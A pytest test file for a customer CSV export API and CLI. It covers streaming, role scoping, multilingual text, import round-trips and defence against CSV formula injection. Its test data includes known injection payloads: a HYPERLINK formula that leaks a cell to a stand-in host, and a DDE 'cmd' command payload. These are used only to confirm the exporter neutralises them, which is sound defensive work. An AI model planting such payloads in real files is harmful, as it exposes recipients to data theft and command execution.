"""CSV export of customers through the API and the CLI: streamed page by page, scoped and authorised like
every read, spreadsheet-safe, with Vietnamese and Chinese text intact."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from typer.testing import CliRunner

from cli.main import app as cli
from domain.auth.principals import Role
from domain.config import AppConfig
from domain.customers import service as customer_service
from tests.conftest import Api, Workspace, add_key, create_customer, make_workspace, record_order, run_worker

# What spreadsheets run as formulas (OWASP's CSV injection list, and the full-width forms some locales
# evaluate), including the signed-number forms that phone numbers used to be spared for.
FORMULAS = (
    '+1+HYPERLINK("http://x.example/?leak="&A2,"open")',
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
    "@SUM(A1:A9)",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
)
PROFILE_COLUMNS = ("external_id", "name", "legal_type", "company_name", "phone", "email", "city", "region",
                   "country", "gender", "birth_date", "income_band", "tags", "interests")  # fmt: skip


def _export(api: Api, token: str | None, **params: str | list[str]) -> tuple[int, str]:
    headers = {"Authorization": f"Bearer {token}"} if token else {}
    response = api.client.get("/export/customers.csv", params=params, headers=headers)
    return response.status_code, response.text


def _rows(text: str) -> list[dict[str, str]]:
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


def test_an_export_streams_every_customer_with_classes_scores_and_stats(
    api: Api, shop: Workspace, config: AppConfig, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(customer_service, "EXPORT_BATCH", 2)  # several pages, read one at a time
    lan = create_customer(api, shop.admin, name="Nguyễn Thị Lan", phone="0912345678", city="Hà Nội", tags=["vip"])
    create_customer(api, shop.admin, name="王小明", city="上海")
    create_customer(api, shop.admin, name='=HYPERLINK("http://x")', city="Huế")
    record_order(api, shop.admin, lan, "6500000", status="PAID")
    run_worker(config)
    status, text = _export(api, shop.admin)
    assert status == 200
    rows = _rows(text)
    assert [row["name"] for row in rows] == ["Nguyễn Thị Lan", "王小明", '\'=HYPERLINK("http://x")']
    first = rows[0]
    assert (first["phone"], first["city"], first["tags"], first["net_spend"]) == (
        "'+84912345678",
        "Hà Nội",
        "vip",
        "6500000",
    )
    assert first["spend_tier"] and first["lead_tier"] and first["lead_score"]
    assert _rows(_export(api, shop.admin, city="上海")[1])[0]["name"] == "王小明"


def test_a_sales_key_exports_its_own_customers_and_roles_without_personal_access_see_none(
    api: Api, shop: Workspace
) -> None:
    _, seller = add_key(api, shop, Role.SALES, "Lan")
    _, ops = add_key(api, shop, Role.OPS)
    create_customer(api, seller, name="Của Lan", birthDate="1990-05-01")
    create_customer(api, shop.admin, name="Của shop")
    assert [row["name"] for row in _rows(_export(api, seller)[1])] == ["Của Lan"]
    by_ops = _rows(_export(api, ops)[1])
    assert {row["name"] for row in by_ops} == {"Của Lan", "Của shop"}
    assert all(row["birth_date"] == "" for row in by_ops)
    assert _rows(_export(api, shop.admin)[1])[0]["birth_date"] == "1990-05-01"


def test_bad_requests_are_refused_before_any_row(api: Api, shop: Workspace) -> None:
    assert _export(api, None)[0] == 401
    status, text = _export(api, shop.admin, classSet="nope", code="x")
    assert status == 400 and "UNKNOWN_CLASS_SET" in text
    status, text = _export(api, shop.admin, updatedSince="yesterday")
    assert status == 400 and "updatedSince" in text


def test_the_cli_exports_a_segment_to_a_file(
    api: Api, shop: Workspace, config: AppConfig, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("MONGODB_URI", config.mongodb_uri)
    monkeypatch.setenv("MONGODB_DB", config.mongodb_db)
    create_customer(api, shop.admin, name="Khách Huế", city="Huế")
    create_customer(api, shop.admin, name="Khách Vinh", city="Vinh")
    out = tmp_path / "customers.csv"
    result = CliRunner().invoke(cli, ["export", shop.id, "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert {row["name"] for row in _rows(out.read_text(encoding="utf-8"))} == {"Khách Huế", "Khách Vinh"}


def test_every_cell_a_spreadsheet_would_evaluate_is_exported_as_quoted_text(api: Api, shop: Workspace) -> None:
    for index, formula in enumerate(FORMULAS):
        create_customer(api, shop.admin, name=formula, city=formula, phone=f"09123456{index:02d}")
    _, text = _export(api, shop.admin)
    rows = _rows(text)
    assert sorted(row["name"] for row in rows) == sorted("'" + formula for formula in FORMULAS)
    assert all(row["city"] == row["name"] for row in rows)
    # Phones are E.164 (+84...), which a spreadsheet would also evaluate: they get the same prefix.
    assert sorted(row["phone"] for row in rows) == [f"'+849123456{index:02d}" for index in range(len(FORMULAS))]
    assert '"\'+84912345600"' in text and "\"'-2+3+cmd|' /C calc'!A0\"" in text  # quoted, as OWASP advises


def test_our_import_reads_back_what_our_export_writes(api: Api, shop: Workspace, config: AppConfig) -> None:
    create_customer(api, shop.admin, name='=HYPERLINK("http://x")', externalId="KH-1", phone="0912345678",
                    city="'Huế", tags=["+vip", "zalo"], birthDate="1990-05-01", gender="FEMALE")  # fmt: skip
    create_customer(api, shop.admin, name="'=already quoted", externalId="KH-2", phone="+86 138 0013 8000",
                    email="wang@example.cn", companyName="@Công ty, TNHH", legalType="COMPANY")  # fmt: skip
    create_customer(api, shop.admin, name="-Trần Văn Bình", externalId="KH-3", interests=["＝váy", "giày"])
    _, exported = _export(api, shop.admin)
    other = make_workspace(api, "Another shop")
    response = api.client.post("/import/customers.csv", content=exported.encode(),
                               headers={"Authorization": f"Bearer {other.admin}"})  # fmt: skip
    assert response.status_code == 202, response.text
    run_worker(config)
    job = api.ok("query($id: ID!) { importJob(id: $id) { status imported failed problem errors { row message } } }",
                 {"id": response.json()["id"]}, other.admin)["importJob"]  # fmt: skip
    assert job == {"status": "completed", "imported": 3, "failed": 0, "problem": None, "errors": []}

    def profiles(token: str) -> list[tuple[str, ...]]:
        return sorted(tuple(row[column] for column in PROFILE_COLUMNS) for row in _rows(_export(api, token)[1]))

    assert profiles(other.admin) == profiles(shop.admin)
    names = {row["external_id"]: row["name"] for row in _rows(_export(api, other.admin)[1])}
    assert names == {"KH-1": '\'=HYPERLINK("http://x")', "KH-2": "''=already quoted", "KH-3": "'-Trần Văn Bình"}
